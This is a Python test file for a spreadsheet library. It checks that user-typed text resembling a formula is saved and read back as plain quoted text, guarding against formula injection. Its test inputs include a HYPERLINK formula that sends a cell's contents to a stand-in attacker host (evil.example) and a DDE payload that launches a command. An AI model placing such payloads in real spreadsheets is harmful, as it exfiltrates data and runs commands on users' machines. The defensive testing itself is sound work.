"""Issue defect 3 (formula injection): text people typed is written as text, read back exactly as typed."""

import zipfile
from io import BytesIO

import openpyxl
import pytest

from luoshi.sheets.cells import append_row, write_cell

EVIL = '=HYPERLINK("http://evil.example/"&D6,"x")'


def _round_trip(book: openpyxl.Workbook) -> openpyxl.Workbook:
    out = BytesIO()
    book.save(out)
    return openpyxl.load_workbook(BytesIO(out.getvalue()))


@pytest.mark.parametrize(
    "text", [EVIL, "+1+cmd|' /C calc'!A0", "-3.5%", "@SUM(A1)", "\t=1", "\r=1", " =1", "#N/A"]
)
def test_text_that_looks_like_a_formula_stays_text(text: str) -> None:
    book = openpyxl.Workbook()
    write_cell(book.active, 1, 1, text)
    append_row(book.active, ["名称", text])
    sheet = _round_trip(book).active
    for cell in (sheet["A1"], sheet["B2"]):
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix == (text != "#N/A")


def test_the_file_holds_no_formula_element() -> None:
    book = openpyxl.Workbook()
    write_cell(book.active, 1, 1, EVIL)
    out = BytesIO()
    book.save(out)
    sheet = zipfile.ZipFile(BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b'<c r="A1" s="1" t="inlineStr">' in sheet


def test_other_values_keep_their_type() -> None:
    book = openpyxl.Workbook()
    append_row(book.active, [1, 2.5, None, "普通文字", "控制\x01字符"])
    row = next(_round_trip(book).active.iter_rows(values_only=True))
    assert row == (1, 2.5, None, "普通文字", "控制字符")
